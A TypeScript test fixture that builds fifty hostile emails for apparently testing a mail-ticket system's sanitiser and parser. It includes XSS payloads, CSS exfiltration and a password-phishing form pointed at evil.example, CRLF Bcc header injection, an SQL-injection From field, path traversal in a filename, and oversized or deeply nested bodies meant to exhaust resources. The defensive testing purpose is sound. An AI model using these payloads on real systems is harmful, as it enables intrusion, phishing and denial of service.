import type { CorpusMail, CorpusTicket } from './corpus-mail.ts'
import { alternativeMail, build, filePart, multipart, plainMail, type Head } from './mime.ts'

type Next = (name: string) => { ticket: CorpusTicket; head: Head; name: string }

/** HTML that reaches out, runs, hides or deceives wherever it is shown unguarded. */
const htmls = [
  '<script>alert(1)</script>',
  '<img src="https://evil.example/pixel.gif" onerror="alert(1)">',
  '<img src=x onerror=alert(1)//',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<style>@import url(https://evil.example/x.css); input[value^=a]{background:url(https://evil.example/a)}</style>x',
  '<div style="background:url(https://evil.example/b)">x</div>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<a href="javascript:alert(1)">x</a><a href=" jAvAsCrIpT:alert(1)">y</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<base href="https://evil.example/"><a href="/x">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<video poster="https://evil.example/p"><source src="https://evil.example/v"></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template><slot onclick=alert(1)>',
  '<table background="https://evil.example/t"><tr><td background="https://evil.example/u">x',
  '<p>&#x202E;turned&#0; round</p>',
  '<p>\u202Egnirts desrever\u202C and \u0000 nul</p>',
]

const heads: readonly ((head: Head, ticket: CorpusTicket) => Head)[] = [
  (head, { reference }) => ({
    ...head,
    Subject: `x\r\nBcc: victim@evil.example\r\nX: [${reference}]`,
  }),
  (head, { replyTo }) => ({ ...head, To: replyTo.replace(/\.[a-z0-9]{10}@/, '.aaaaaaaaaa@') }),
  (head, { replyTo }) => ({ ...head, To: replyTo.replace(/\+.*@/, '+t-22222.aaaaaaaaaa@') }),
  (head) => ({ ...head, 'In-Reply-To': '<00000000-0000-4000-8000-000000000000@estampa.example>' }),
  (head) => ({ ...head, References: '<a@b.example> '.repeat(5_000) }),
  (head) => ({ ...head, From: `${'x'.repeat(100_000)}@evil.example` }),
  (head) => ({ ...head, From: '"; drop table ticket; --" <sql@evil.example>' }),
  (head) => ({ ...head, From: 'two@evil.example, three@evil.example' }),
  (head) => ({ ...head, From: '' }),
  (head) => ({ ...head, 'Message-ID': '<corpus-1@mail.example>' }),
  (head) => ({ ...head, 'Message-ID': `<${'m'.repeat(5_000)}@evil.example>` }),
  (head) => ({ ...head, Subject: `=?utf-8?B?${'QUFB'.repeat(5_000)}?=` }),
  (head) => ({ ...head, Subject: '=?unknown-charset?Q?=FF=FE?= =?utf-8?Q?broken' }),
  (head) => ({ ...head, 'Message-ID': '<nul\u0000id@evil.example>', Subject: 'nul \u0000 \u0001' }),
  (head) => ({ ...head, From: 'n\u0000ul <n\u0000ul@evil.example>' }),
  (head) => ({ ...head, 'Authentication-Results': 'mx.shop.example; dmarc=fail' }),
  (head) => ({
    ...head,
    To: Array.from({ length: 2_000 }, (_, at) => `a${at}@evil.example`).join(', '),
  }),
]

const bodies: readonly ((head: Head) => Buffer)[] = [
  (head) =>
    build(
      { ...head, 'Content-Type': 'multipart/mixed; boundary=q' },
      '--q\r\n\r\nx\r\n'.repeat(10_000),
    ),
  (head) => build({ ...head, 'Content-Type': 'multipart/mixed; boundary=q' }, '--q\r\n'.repeat(60)),
  (head) => nested(head, 200),
  (head) => nested(head, 12),
  (head) => plainMail(head, 'a'.repeat(5_000_000)),
  (head) => plainMail(head, '> '.repeat(500_000)),
  (head) => plainMail(head, `${'\n'.repeat(400_000)}:`),
  (head) => alternativeMail(head, { text: '', html: '<div>'.repeat(100_000) }),
  (head) => alternativeMail(head, { text: '', html: `<p ${'a="b" '.repeat(50_000)}>x` }),
  (head) => alternativeMail(head, { text: '', html: '<blockquote>'.repeat(20_000) }),
  (head) => Buffer.concat([build(head, ''), Buffer.alloc(2_000_000, 0)]),
  (head) => build(Object.fromEntries([...Object.entries(head), ...manyHeads]), 'x'),
  (head) =>
    build({ ...head, 'Content-Transfer-Encoding': 'quoted-printable' }, '=ZZ='.repeat(200_000)),
  (head) => build({ ...head, 'Content-Type': 'text/plain; charset=utf-7' }, '+ADw-script+AD4-'),
  (head) =>
    multipart('mixed', head, [filePart('../../etc/passwd', 'image/png', Buffer.from('<html>'))]),
  (head) =>
    multipart('mixed', head, [filePart('x.jpg', 'image/jpeg', Buffer.from('GIF89a<script>'))]),
]

const manyHeads = Array.from({ length: 20_000 }, (_, at) => [`X-H-${at}`, 'v'] as const)

function nested(head: Head, depth: number): Buffer {
  const open = Array.from(
    { length: depth },
    (_, at) => `Content-Type: multipart/mixed; boundary="n${at}"\r\n\r\n--n${at}\r\n`,
  )
  return build(head, '').subarray(0, -2).length > 0
    ? Buffer.concat([build(head, '').subarray(0, -2), Buffer.from(open.join(''))])
    : Buffer.alloc(0)
}

/** Fifty mails that nobody writes by accident. */
export function hostileMails(next: Next): CorpusMail[] {
  const to = { To: 'hello@estampa.example', Subject: 'Hello' }
  return [
    ...htmls.map((html) => ({
      of: next(`html ${html.slice(0, 30)}`),
      make: (head: Head) => alternativeMail({ ...head, ...to }, { text: 'words', html }),
    })),
    ...heads.map((change, at) => ({
      of: next(`head ${at}`),
      make: (head: Head, ticket: CorpusTicket) =>
        plainMail(change({ ...head, ...to }, ticket), 'words'),
    })),
    ...bodies.map((body, at) => ({
      of: next(`body ${at}`),
      make: (head: Head) => body({ ...head, ...to }),
    })),
  ].map(({ of: { head, ...rest }, make }) => ({
    ...rest,
    raw: make(head, rest.ticket),
    wanted: { kind: 'hostile' as const },
  }))
}
